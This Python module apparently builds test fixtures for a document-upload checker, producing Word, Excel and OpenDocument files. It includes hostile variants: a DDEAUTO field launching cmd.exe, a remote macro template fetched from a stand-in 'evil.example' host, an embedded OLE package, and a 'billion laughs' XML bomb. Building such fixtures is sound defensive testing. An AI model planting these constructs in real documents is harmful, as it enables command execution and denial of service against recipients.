"""Word, Excel and OpenDocument files built for the upload tests: plain ones, and ones that link to
other files, start programs through DDE or embed OLE objects, laid out as Word, Excel (openpyxl)
and LibreOffice write them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from openpyxl import Workbook
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink, ExternalSheetNames

OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # a compound file's 512-byte header


def zip_bytes(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compress_type=method)
    return buffer.getvalue()


def repack(data: bytes, *extra: tuple[str, bytes], change: dict[str, Callable[[bytes], bytes]] | None = None,
           stored_first: bool = False) -> bytes:
    """The same archive with some entries changed (name: function of the old bytes) and more added."""
    change = change or {}
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = [(info.filename, source.read(info)) for info in source.infolist()]
    changed = [(name, change[name](body) if name in change else body) for name, body in entries]
    return zip_bytes(changed + list(extra), stored_first=stored_first)


def inserting(addition: bytes, before: bytes) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(before, addition + before, 1)


# A document type whose last entity expands to 10^8 "ha"s (the "billion laughs").
LAUGHS = b'<!DOCTYPE worksheet [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (ord("b") + n, (b"&%c;" % (ord("a") + n)) * 10) for n in range(8)) + b"]>"


# Word --------------------------------------------------------------------------------------------

DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT_XML = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Our constitution</w:t></w:r></w:p></w:body></w:document>"
)


def docx_bytes(*extra: tuple[str, bytes], content_types: bytes = DOCX_TYPES) -> bytes:
    return zip_bytes([
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", DOCUMENT_XML),
        *extra,
    ])


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD_NAMESPACES = (
    f'xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
)
XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def relationships(*items: tuple[str, ...]) -> bytes:
    """A .rels part, ids rId100 on; each item is (type, target) or (type, target, "External"), and
    a type without a slash is one of ECMA-376's."""
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{kind if "/" in kind else RELATIONSHIP + kind}" Target="{target}"'
        + (f' TargetMode="{mode[0]}"' if mode else "") + "/>"
        for n, (kind, target, *mode) in enumerate(items, start=100)
    )
    return (XML_DECLARATION + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + rows + "</Relationships>").encode()


def paragraph(text: str = "Our constitution") -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def field_runs(*code: str, result: str = "1") -> str:
    """A complex field's runs: each item of ``code`` is field code in a run of its own, or (when it
    starts with "<") the runs of a field nested in the code."""
    runs = "".join(
        part if part.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in code
    )
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def field(*code: str, result: str = "1") -> str:
    return f"<w:p>{field_runs(*code, result=result)}</w:p>"


def word_file(*body: str, rels: tuple[tuple[str, ...], ...] = (), parts: tuple[tuple[str, bytes], ...] = (),
              types: str = "") -> bytes:
    """A DOCX with these paragraphs, the document's relationships, more parts and content types."""
    document = f"{XML_DECLARATION}<w:document {WORD_NAMESPACES}><w:body>{''.join(body or (paragraph(),))}</w:body>" \
        "</w:document>"
    content_types = (
        XML_DECLARATION + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>' + types + '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return zip_bytes([
        ("[Content_Types].xml", content_types.encode()),
        ("_rels/.rels", relationships(("officeDocument", "word/document.xml"))),
        ("word/document.xml", document.encode()),
        ("word/_rels/document.xml.rels", relationships(*rels)),
        *parts,
    ])


def header(*body: str) -> bytes:
    return f"{XML_DECLARATION}<w:hdr {WORD_NAMESPACES}>{''.join(body)}</w:hdr>".encode()


def ole_object_runs(relationship_id: str = "rId100") -> str:
    """An embedded object as Word writes one: a picture of it, and the OLE object behind it."""
    return (
        '<w:r><w:object w:dxaOrig="1520" w:dyaOrig="960"><v:shape id="_x0000_i1025" type="#_x0000_t75" '
        'style="width:76pt;height:48pt" o:ole=""><v:imagedata r:id="rId101" o:title=""/></v:shape>'
        f'<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
        f'ObjectID="_1790000000" r:id="{relationship_id}"/></w:object></w:r>'
    )


DDE_CODE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
OLE_TYPE = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'


def attached_template(mode: str = "External") -> bytes:
    """A document based on a template Word fetches when opening it (macros and all)."""
    settings_xml = f'<w:settings {WORD_NAMESPACES}><w:attachedTemplate r:id="rId100"/></w:settings>'.encode()
    return word_file(parts=(
        ("word/settings.xml", settings_xml),
        ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "https://evil.example/t.dotm", mode))),
    ))


def word_with_ole_object() -> bytes:
    return word_file(
        f"<w:p>{ole_object_runs()}</w:p>",
        rels=(("oleObject", "embeddings/oleObject1.bin"), ("image", "media/image1.emf")),
        parts=(("word/embeddings/oleObject1.bin", OLE_FILE), ("word/media/image1.emf", b"\x01\x00\x00\x00")),
        types=OLE_TYPE + '<Default Extension="emf" ContentType="image/x-emf"/>',
    )


CHART = (
    b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:barChart>'
    b"<c:ser><c:val><c:numRef><c:f>Sheet1!$B$2:$B$5</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea>"
    b'</c:chart><c:externalData r:id="rId100"/></c:chartSpace>'
)


def word_with_chart() -> bytes:
    """A chart keeps its figures in an embedded workbook: an object, but not an OLE one."""
    return word_file(
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/'
        'drawingml/2006/chart"><c:chart r:id="rId100"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
        '</w:r></w:p>',
        rels=(("chart", "charts/chart1.xml"),),
        parts=(("word/charts/chart1.xml", CHART),
               ("word/charts/_rels/chart1.xml.rels",
                relationships(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"))),
               ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx_bytes())),
        types='<Default Extension="xlsx" '
              'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
              '<Override PartName="/word/charts/chart1.xml" '
              'ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
    )


# Excel -------------------------------------------------------------------------------------------


def xlsx_bytes() -> bytes:
    return workbook_file()


def workbook_file(edit: Callable[[Workbook], object] | None = None) -> bytes:
    """A real XLSX from openpyxl, changed by ``edit`` before saving."""
    workbook = Workbook()
    workbook.active["A1"] = "Income"
    workbook.active["B1"] = 25000
    if edit is not None:
        edit(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with(*extra: tuple[str, bytes], change: dict[str, Callable[[bytes], bytes]] | None = None) -> bytes:
    return repack(xlsx_bytes(), *extra, change=change)


def link_to_workbook(workbook: Workbook, target: str = "file:///C:/Budgets/Partner%20budget.xlsx") -> None:
    """An external link as Excel keeps one: a part naming the other workbook, and a formula using it."""
    link = ExternalLink(externalBook=ExternalBook(sheetNames=ExternalSheetNames(sheetName=["Costs"]), id="rId1"))
    link.file_link = Relationship(
        Id="rId1", Type=RELATIONSHIP + "externalLinkPath", Target=target, TargetMode="External"
    )
    workbook._external_links.append(link)
    workbook.active["C1"] = "=[1]Costs!B2"


def name_formula(name: str, formula: str) -> Callable[[Workbook], None]:
    return lambda workbook: workbook.defined_names.add(DefinedName(name, attr_text=formula))


def cell_formula(*formulas: str, sheet: str | None = None) -> Callable[[Workbook], None]:
    def edit(workbook: Workbook) -> None:
        if sheet:
            workbook.create_sheet(sheet)["B1"] = 10
        for row, formula in enumerate(formulas, start=2):
            workbook.active[f"A{row}"] = formula
    return edit


SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE_OBJECTS = (
    b'<oleObjects><oleObject xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    b'progId="Package" shapeId="1025" r:id="rId100"/></oleObjects>'
)


def workbook_with_links_and_formulas(workbook: Workbook) -> None:
    """A hyperlink, and formulas with "|" in a string and in a sheet's name."""
    workbook.active["A3"] = "GOV.UK"
    workbook.active["A3"].hyperlink = "https://www.gov.uk/"
    cell_formula('=IF(A1="a|b",1,0)', "=SUM('Q1 | Q2'!B1:B3)", "=VLOOKUP(A1,Table1[[#All],[Item]],2,FALSE)",
                 sheet="Q1 | Q2")(workbook)


# OpenDocument ------------------------------------------------------------------------------------

ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)


def odt_bytes(*extra: tuple[str, bytes], mimetype: bytes = b"application/vnd.oasis.opendocument.text",
              content: bytes = b"<office:document-content><office:scripts/></office:document-content>") -> bytes:
    return zip_bytes(
        [("mimetype", mimetype), ("META-INF/manifest.xml", b"<manifest:manifest/>"), ("content.xml", content), *extra],
        stored_first=True,
    )


def odt_file(*body: str, parts: tuple[tuple[str, bytes], ...] = (), manifest: str = "") -> bytes:
    """An ODT with these paragraphs and frames in its text, as LibreOffice writes them."""
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {ODF_NAMESPACES}>'
               f'<office:body><office:text>{"".join(body)}</office:text></office:body></office:document-content>')
    listing = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{manifest}</manifest:manifest>"
    )
    return zip_bytes(
        [("mimetype", b"application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", listing.encode()),
         ("content.xml", content.encode()), ("Configurations2/accelerator/current.xml", b""), *parts],
        stored_first=True,
    )


def frame(inner: str) -> str:
    return (f'<text:p><draw:frame draw:name="Object1" svg:width="4cm" svg:height="3cm">{inner}'
            "</draw:frame></text:p>")
